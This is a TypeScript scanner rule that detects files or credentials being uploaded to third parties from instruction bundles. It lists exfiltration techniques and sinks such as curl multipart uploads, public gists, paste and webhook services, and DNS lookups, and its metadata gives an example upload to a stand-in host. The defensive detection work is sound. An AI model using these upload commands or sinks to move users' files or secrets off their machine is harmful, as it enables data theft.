import type { ScanContext } from '../../views/scan-context';
import { parseFrontmatter } from '../../parsers/frontmatter.parser';
import { realHost } from '../credential-vendors';
import { defineRegexRule, perFile } from '../regex-rule';
import type { Rule } from '../rule.types';
import { CREDENTIAL_SOURCE } from '../vocabulary';

const SHELL_URL_ASSIGNMENT_RE = /^\s{0,8}(?:export\s{1,3}|readonly\s{1,3}|local\s{1,3})?([A-Za-z_]\w{0,40})=["']?(https:\/\/[^\s"']{1,300})/;
const CURL_TARGET_RE = /(https:\/\/[^\s"'`)]{1,300})|["']?\$\{?([A-Za-z_]\w{0,40})\}?/g;

/** Credential material gathered: key and token files, browser stores, the environment. */
const CREDENTIAL_READ = new RegExp(CREDENTIAL_SOURCE, 'i');
/** A password typed at a prompt that hides it (`stty -echo; read p`, `read -s`, `getpass()`, `Read-Host -AsSecureString`). */
const PASSWORD_READ = /\bstty\s{1,3}-echo\b|\bread\s{1,3}-\w{0,3}s\w{0,3}\s|\bgetpass\s{0,2}\(|-AsSecureString\b/i;
const HEADING = /^\s{0,3}#{1,6}\s/;
/** How far above an upload its staging steps are read (one fenced block or list of steps). */
const STAGING_REACH = 10;

/**
 * The steps just above the upload, back to the section's heading, gather credential material or
 * capture a password: what leaves is credentials, not a project file.
 */
function uploadsCredentials(ctx: ScanContext, line: number): boolean {
  for (let i = line - 1; i >= Math.max(0, line - 1 - STAGING_REACH); i--) {
    const text = ctx.lines[i] ?? '';
    if (i < line - 1 && HEADING.test(text)) return false;
    if (CREDENTIAL_READ.test(text) || PASSWORD_READ.test(text)) return true;
  }
  return false;
}

/** Shell variables assigned an https URL in this file (DEPLOY_ENDPOINT="https://…"). */
const urlVariables = perFile((ctx: ScanContext): Map<string, string> => {
  const vars = new Map<string, string>();
  for (const line of ctx.lines) {
    const m = SHELL_URL_ASSIGNMENT_RE.exec(line);
    if (m && !vars.has(m[1])) vars.set(m[1], m[2]);
  }
  return vars;
});

/** Words of the bundle's declared purpose: the name and description of its SKILL.md. */
const declaredPurposeWords = perFile((ctx: ScanContext): Set<string> => {
  const skill = ctx.bundle.files.find((f) => /(?:^|\/)SKILL\.md$/i.test(f.relativePath));
  const data = skill ? parseFrontmatter(skill.text.split('\n'))?.data : null;
  const text = `${String(data?.name ?? '')} ${String(data?.description ?? '')}`.toLowerCase();
  return new Set(text.split(/[^a-z0-9]+/).filter((w) => w.length >= 4));
});

/**
 * The upload goes to the service the bundle says it is for ("Deploy applications to Vercel" posting
 * to *.vercel.com, resolved through the script's own URL variable): the declared purpose, not a
 * leak to a third party. Judged on the real host's service label.
 */
function uploadsToDeclaredService(ctx: ScanContext, line: string): boolean {
  const words = declaredPurposeWords(ctx);
  if (words.size === 0) return false;
  const targets: string[] = [];
  for (const m of line.matchAll(CURL_TARGET_RE)) {
    const url = m[1] ?? urlVariables(ctx).get(m[2] ?? '');
    if (url) targets.push(url);
  }
  return (
    targets.length > 0 &&
    targets.every((url) => {
      const labels = realHost(url)?.split('.') ?? [];
      const service = labels.length >= 2 ? labels[labels.length - 2] : '';
      return service.length >= 4 && words.has(service);
    })
  );
}

const uploadExternalRule = defineRegexRule({
  meta: {
    id: 'BW-EXF-003',
    title: 'Files or repository contents uploaded to a third party',
    category: 'data_exfiltration',
    severity: 'high',
    confidence: 'medium',
    asset_type: 'instructions',
    rationale:
      "Multipart/file uploads (`curl -F file=@…`, `--data-binary @…`, `-T`), public gists of project files, mirror pushes to a newly added remote and paste/webhook sinks move the user's data off the machine. Legitimate uploads exist, so confidence is medium; when the steps just above the upload (back to the section heading) gather key, token or browser files or capture a typed password, what leaves is credentials: critical, high confidence.",
    example: 'curl -s -F file=@<path> https://analysis.example/analyze',
  },
  triggers: [
    'curl',
    'gh ',
    'gist',
    '--mirror',
    'webhook',
    'requestbin',
    'pipedream',
    'hookbin',
    'beeceptor',
    'ngrok',
    'trycloudflare',
    'transfer.sh',
    'file.io',
    '0x0.st',
    'pastebin',
    'paste.ee',
    'termbin',
    'discord',
    'telegram',
    'hooks.slack',
    'interact.sh',
    'oast.',
    'burpcollaborator',
    'canarytoken',
    'nslookup',
    'dig',
    'host',
    'sendbeacon',
  ],
  patterns: [
    /\bcurl\b[^\n]{0,200}(?:-F|--form)\s{0,3}["']?[\w.-]{1,40}=@/i,
    /\bcurl\b[^\n]{0,200}\s(?:--data-binary|--upload-file|-T)\s{1,3}["']?@?[~$\w./-]{1,200}/,
    /\bgh\s{1,3}gist\s{1,3}create\b[^\n]{0,80}(?:--public|-p)\b/i,
    /\bgit\s{1,3}push\s{1,3}(?:[^\n;|&]{0,40}\s)?--mirror\b/i,
    /\b(?:webhook\.site|requestbin|pipedream\.net|hookbin|beeceptor|ngrok-free\.app|ngrok\.io|trycloudflare\.com|transfer\.sh|file\.io|0x0\.st|pastebin\.com\/api|paste\.ee|termbin\.com|discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|hooks\.slack\.com\/services|interact\.sh|oast\.(?:fun|pro|live|site|online|me)|burpcollaborator\.net|canarytokens)\b/i,
    /(?<![-\w])(?:nslookup|dig|host)\s{1,3}[^\n]{0,40}\$\{?\w{1,30}\}?\.[\w-]{1,63}\./i,
    /\bsendBeacon\(/,
  ],
  views: ['raw', 'normalized', 'hidden', 'decoded'],
  refine(hit, _m, ctx, view) {
    if (view.name !== 'raw' || !/^curl\b/i.test(hit.evidence)) return hit;
    const line = ctx.lines[hit.line - 1] ?? '';
    if (uploadsToDeclaredService(ctx, line))
      return { ...hit, severity: 'medium', confidence: 'low', message: 'Upload to the service the bundle declares it deploys to' };
    return uploadsCredentials(ctx, hit.line)
      ? { ...hit, severity: 'critical', confidence: 'high', message: 'Credentials gathered in the steps above uploaded to a third party' }
      : hit;
  },
});

/** The regex rule plus the regexes its refine reads, so the ReDoS check sees them all. */
export const exfUploadExternalRule: Rule = {
  ...uploadExternalRule,
  regexes: [...uploadExternalRule.regexes, SHELL_URL_ASSIGNMENT_RE, CURL_TARGET_RE, CREDENTIAL_READ, PASSWORD_READ, HEADING],
};
